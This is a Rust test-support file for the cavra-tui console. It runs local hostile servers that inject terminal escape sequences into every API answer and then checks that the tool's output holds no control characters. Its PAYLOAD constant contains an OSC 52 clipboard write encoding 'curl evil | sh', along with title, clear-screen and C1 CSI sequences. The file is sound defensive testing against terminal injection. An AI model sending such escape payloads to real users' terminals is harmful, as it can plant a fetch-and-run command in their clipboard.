//! Hostile CAVRA servers on 127.0.0.1 for the issue-10 tests: the contract server with every
//! string of every answer poisoned with terminal escape sequences (requests are un-poisoned on
//! the way in, so the server still finds what the console names), a server whose every answer
//! is an error whose `detail` carries them, and a "thin" server answering one fixed body
//! (`{}`, `[]`, `null`, wrong types) to everything. Also the list of every subcommand and the
//! check that nothing a terminal would interpret reached stdout or stderr.
#![allow(dead_code)]

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use axum::Router;
use axum::body::{Body, to_bytes};
use axum::extract::Request;
use axum::http::{Method, StatusCode, header};
use axum::middleware::{Next, from_fn};
use axum::response::{IntoResponse, Response};
use serde_json::{Map, Value, json};

use crate::contract_server::{self, BASE, ServerState};

/// Title (OSC 0), clear screen, clipboard write (OSC 52: `curl evil | sh`), alternate screen,
/// and a C1 CSI (U+009B) starting "red".
pub const PAYLOAD: &str =
    "\x1b]0;pwned-title\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[?1049h\u{9b}31m";

/// The token the hostile servers accept (auth on, so `auth status` shows a session).
pub const TOKEN: &str = "hostile-token-1";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Every string poisoned except timestamps, kinds and the enum-like words the console acts
    /// on (`action`, `acknowledgement_state`, `mode`), so routes, plans and alerts still work.
    Readable,
    /// Every string and every object key poisoned, timestamps and kinds included.
    Total,
    /// Session fine (poisoned), every other answer an error whose `detail` is poisoned:
    /// GET 404 with a string detail, POST 400 / 422 with FastAPI's list form.
    Errors,
}

fn keep(key: Option<&str>) -> bool {
    key.is_some_and(|k| {
        k.ends_with("_at")
            || matches!(
                k,
                "metadata_kind" | "action" | "acknowledgement_state" | "mode"
            )
    })
}

/// Appends [`PAYLOAD`] to the strings (and in `Total` mode the keys) of `v`.
pub fn poison(v: &mut Value, mode: Mode, key: Option<&str>) {
    match v {
        Value::String(s) if mode == Mode::Total || !keep(key) => s.push_str(PAYLOAD),
        Value::Array(a) => a.iter_mut().for_each(|x| poison(x, mode, key)),
        Value::Object(m) => {
            let old = std::mem::take(m);
            for (k, mut x) in old {
                poison(&mut x, mode, Some(&k));
                let k = if mode == Mode::Total {
                    format!("{k}{PAYLOAD}")
                } else {
                    k
                };
                m.insert(k, x);
            }
        }
        _ => {}
    }
}

/// Removes the payload (also lower- and upper-cased, as the console normalises some fields).
pub fn unpoison_str(s: &str) -> String {
    let mut out = s.to_string();
    for p in [
        PAYLOAD.to_string(),
        PAYLOAD.to_lowercase(),
        PAYLOAD.to_uppercase(),
    ] {
        out = out.replace(&p, "");
    }
    out
}

fn unpoison(v: &mut Value) {
    match v {
        Value::String(s) => *s = unpoison_str(s),
        Value::Array(a) => a.iter_mut().for_each(unpoison),
        Value::Object(m) => {
            let old = std::mem::take(m);
            for (k, mut x) in old {
                unpoison(&mut x);
                m.insert(unpoison_str(&k), x);
            }
        }
        _ => {}
    }
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = |c: u8| (c as char).to_digit(16);
        if b[i] == b'%' && i + 2 < b.len() {
            if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Strips the payload from the request (path, query, JSON body) so the server finds the ids.
async fn clean_request(req: Request) -> Request {
    let (mut parts, body) = req.into_parts();
    let path = unpoison_str(&percent_decode(parts.uri.path()));
    let query = parts.uri.query().map(|q| {
        let pairs: Vec<(String, String)> = url::form_urlencoded::parse(q.as_bytes())
            .map(|(k, v)| (unpoison_str(&k), unpoison_str(&v)))
            .collect();
        url::form_urlencoded::Serializer::new(String::new())
            .extend_pairs(pairs)
            .finish()
    });
    let encoded: String = path
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "/-_.~".contains(c) {
                c.to_string()
            } else {
                url::form_urlencoded::byte_serialize(c.to_string().as_bytes()).collect()
            }
        })
        .collect();
    let pq = match query {
        Some(q) => format!("{encoded}?{q}"),
        None => encoded,
    };
    if let Ok(u) = pq.parse() {
        parts.uri = u;
    }
    let bytes = to_bytes(body, 64 << 20).await.unwrap_or_default();
    let body = match serde_json::from_slice::<Value>(&bytes) {
        Ok(mut v) => {
            unpoison(&mut v);
            parts.headers.remove(header::CONTENT_LENGTH);
            Body::from(serde_json::to_vec(&v).unwrap())
        }
        Err(_) => Body::from(bytes),
    };
    Request::from_parts(parts, body)
}

async fn poison_response(res: Response, mode: Mode) -> Response {
    let (mut parts, body) = res.into_parts();
    let bytes = to_bytes(body, 64 << 20).await.unwrap_or_default();
    match serde_json::from_slice::<Value>(&bytes) {
        Ok(mut v) => {
            poison(&mut v, mode, None);
            parts.headers.remove(header::CONTENT_LENGTH);
            Response::from_parts(parts, Body::from(serde_json::to_vec(&v).unwrap()))
        }
        Err(_) => Response::from_parts(parts, Body::from(bytes)),
    }
}

fn error_answer(method: &Method, path: &str) -> Response {
    let detail = format!("refused {PAYLOAD} for {path}{PAYLOAD}");
    if method == Method::GET {
        (StatusCode::NOT_FOUND, axum::Json(json!({"detail": detail}))).into_response()
    } else if path.contains("acknowledgements") {
        (
            StatusCode::BAD_REQUEST,
            axum::Json(json!({"detail": detail})),
        )
            .into_response()
    } else {
        let item = json!({"type": format!("value_error{PAYLOAD}"), "loc": ["body", PAYLOAD],
                          "msg": detail, "input": PAYLOAD});
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            axum::Json(json!({"detail": [item]})),
        )
            .into_response()
    }
}

/// `POST {BASE}/deliver`, which the contract server does not serve: a plan as CAVRA answers.
async fn deliver() -> Response {
    axum::Json(json!({
        "plan": {"plan_id": "gordn-deliver-1", "schedule_id": "payments_api_monthly", "status": "planned",
                 "deliverable_route_count": 2, "suppressed_route_count": 1,
                 "route_decisions": [{"provider": "slack", "owner": "payments", "action": "deliver"}]},
        "delivery": {"deliveries": [{"provider": "slack", "status_code": 200, "success": true}]},
        "success": true
    }))
    .into_response()
}

/// The contract server over the store at `db`, behind the poisoning layer of `mode`.
pub async fn poisoned(db: &Path, mode: Mode) -> String {
    let state = Arc::new(ServerState {
        backend: cavra_tui::backend::sample::SampleBackend::open(db).unwrap(),
        auth: Some(
            [(TOKEN.to_string(), "alice@example.com".to_string())]
                .into_iter()
                .collect(),
        ),
        rbac_only: Default::default(),
        seen: Default::default(),
        delay: Default::default(),
        config: std::sync::Mutex::new(Default::default()),
    });
    let app = contract_server::router(state)
        .route(&format!("{BASE}/deliver"), axum::routing::post(deliver))
        .layer(from_fn(move |req: Request, next: Next| async move {
            let (method, path) = (req.method().clone(), req.uri().path().to_string());
            if mode == Mode::Errors && path != "/console/session" {
                return error_answer(&method, &path);
            }
            let res = next.run(clean_request(req).await).await;
            poison_response(res, mode).await
        }));
    serve(app).await
}

/// A server answering `body` with 200 to every request.
pub async fn thin(body: Value) -> String {
    let app = Router::new().fallback(move || {
        let body = body.clone();
        async move { axum::Json(body).into_response() }
    });
    serve(app).await
}

async fn serve(app: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });
    format!("http://{addr}")
}

/// Every subcommand (in an order where each finds what the one before recorded), acting on
/// `route` where one is named. `login` reads its token from stdin.
pub fn subcommands(route: &str) -> Vec<Vec<String>> {
    let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    vec![
        v(&["routes"]),
        v(&["routes", "--filter", "owner:payments"]),
        v(&[
            "ack",
            "--route",
            route,
            "--yes",
            "--note",
            "n",
            "--external-ref",
            "CHG-1",
        ]),
        v(&["escalate", "--route", route, "--yes"]),
        v(&["resolve", "--route", route, "--yes"]),
        v(&["dismiss", "--route", route, "--yes"]),
        v(&["bulk", "ack-outstanding", "--dry-run"]),
        v(&["bulk", "escalate-breached", "--dry-run"]),
        v(&[
            "bulk",
            "ack-outstanding",
            "--filter",
            "owner:identity",
            "--yes",
        ]),
        v(&["bulk", "escalate-breached", "--yes"]),
        v(&["export-audit", "--filter", "owner:payments", "--yes"]),
        v(&["dashboard"]),
        v(&["history"]),
        v(&["history", "--filter", "provider:siem state:failed"]),
        v(&["deliver", "--yes"]),
        v(&["audit", "deliver", "--provider", "splunk", "--yes"]),
        v(&["retry", "plan", "--yes"]),
        v(&["retry", "ack", "--yes", "--note", "paged"]),
        v(&["auditor-retry", "plan", "--yes"]),
        v(&["worker", "run", "--dry-run", "--yes"]),
        v(&["worker", "health"]),
        v(&["worker", "alert", "send", "--provider", "webhook", "--yes"]),
        v(&["worker", "alert", "list"]),
        v(&["worker", "alert", "dashboard"]),
        v(&["worker", "alert", "ack", "--yes"]),
        v(&["archive", "health"]),
        v(&["archive", "health", "--record", "--yes"]),
        v(&["auth", "status"]),
        v(&["login"]),
        v(&["logout"]),
    ]
}

/// Runs the binary against `url` with isolated dirs under `home`, no keyring, the token in
/// `CAVRA_TOKEN`, `output` as the format.
pub fn run(home: &Path, url: &str, args: &[String], output: &str) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_cavra-tui"));
    crate::support::isolate(&mut c, home);
    c.env("CAVRA_TUI_KEYRING", "none")
        .env("CAVRA_TOKEN", TOKEN)
        .args(["--api", url, "--output", output])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        let _ = stdin.write_all(format!("{TOKEN}\n").as_bytes());
    }
    child.wait_with_output().unwrap()
}

/// The first thing in `bytes` a terminal would interpret: ESC, BEL, any other C0 but newline
/// and tab, DEL, or a C1 character (U+0080–U+009F, as UTF-8 or as a raw byte).
pub fn first_control(bytes: &[u8]) -> Option<(usize, String)> {
    if let Err(e) = std::str::from_utf8(bytes) {
        // A raw 0x9b byte is CSI to an 8-bit terminal: anything not UTF-8 counts.
        return Some((e.valid_up_to(), "a byte that is not UTF-8".into()));
    }
    let text = String::from_utf8_lossy(bytes);
    text.char_indices()
        .find(|(_, c)| matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'))
        .map(|(i, c)| {
            let from = text[..i]
                .char_indices()
                .rev()
                .nth(40)
                .map(|(j, _)| j)
                .unwrap_or(0);
            (i, format!("{c:?} after {:?}", &text[from..i]))
        })
}

/// Panics naming the command when its output holds anything a terminal would interpret.
pub fn assert_clean(what: &str, o: &Output) {
    for (stream, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        if let Some((at, ctx)) = first_control(bytes) {
            panic!("{what}: {stream} byte {at}: {ctx}");
        }
    }
}

/// The JSON objects of a `Map` as owned values (for building wrong-typed bodies).
pub fn obj(v: Value) -> Map<String, Value> {
    v.as_object().cloned().unwrap_or_default()
}
